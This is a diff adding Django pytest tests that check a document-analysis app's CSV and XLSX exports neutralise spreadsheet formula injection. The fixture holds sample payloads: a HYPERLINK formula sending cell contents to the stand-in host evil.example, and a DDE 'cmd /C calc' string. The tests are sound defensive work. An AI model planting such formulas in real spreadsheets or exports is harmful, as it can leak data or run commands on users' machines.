@@ -1,10 +1,14 @@
+import csv
 import io
 
 import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
+from livsmiljo.analysis import exports
+from livsmiljo.analysis.services import document_tag
 from livsmiljo.analysis.tests.conftest import SECRET
+from livsmiljo.analysis.tests.factories import make_document
 
 pytestmark = pytest.mark.django_db
 
@@ -50,3 +54,48 @@ def test_the_comparison_matrix_exports_and_the_heatmap_is_a_png(
 def test_an_outsider_cannot_export_the_profile_of_an_unshared_document(outsider_client, private_document):
     url = reverse("analysis:document_export", args=[private_document.pk, "xlsx"])
     assert outsider_client.get(url).status_code == 404
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
+
+
+@pytest.fixture
+def formula_document(region):
+    document = make_document(region, "@SUM(1+1)*cmd|' /C calc'!A0", title=FORMULA)
+    document.passages.update(heading="+1+1")
+    document_tag(document=document)
+    return document
+
+
+def test_a_formula_in_a_title_is_text_not_a_formula_in_the_xlsx_export(owner_client, formula_document):
+    sheet = _sheet(owner_client.get(reverse("analysis:tags_export", args=["xlsx"])))
+    title, heading, text = sheet["B2"], sheet["E2"], sheet["N2"]
+    assert title.data_type == "s" and title.value == FORMULA and title.quotePrefix
+    assert heading.data_type == "s" and heading.value == "+1+1" and heading.quotePrefix
+    assert text.data_type == "s" and text.value.startswith("@SUM") and text.quotePrefix
+    assert sheet["A2"].data_type == "n"
+
+
+def test_a_formula_in_a_title_is_prefixed_with_an_apostrophe_in_the_csv_export(
+    owner_client, formula_document
+):
+    csv_text = owner_client.get(reverse("analysis:tags_export", args=["csv"])).content.decode()
+    row = next(csv.reader(io.StringIO(csv_text.removeprefix("\ufeff")).readlines()[1:]))
+    assert row[1] == "'" + FORMULA
+    assert row[4] == "'+1+1" and row[13].startswith("'@SUM")
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "-"])
+def test_a_text_that_a_spreadsheet_would_read_as_a_formula_is_neutralised(value):
+    assert exports.neutralise_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", [-1, -2.5, 0, 33.3, "", "Region Östergötland", "a=b", "1-2", None])
+def test_numbers_and_ordinary_text_are_written_as_they_are(value):
+    assert exports.neutralise_cell(value) == value
+
+
+def test_a_title_with_a_control_character_still_exports_as_xlsx(owner_client, region):
+    document_tag(document=make_document(region, "Text.", title="Radbrytning\x0bfrån Word"))
+    sheet = _sheet(owner_client.get(reverse("analysis:tags_export", args=["xlsx"])))
+    assert sheet["B2"].value == "Radbrytningfrån Word"
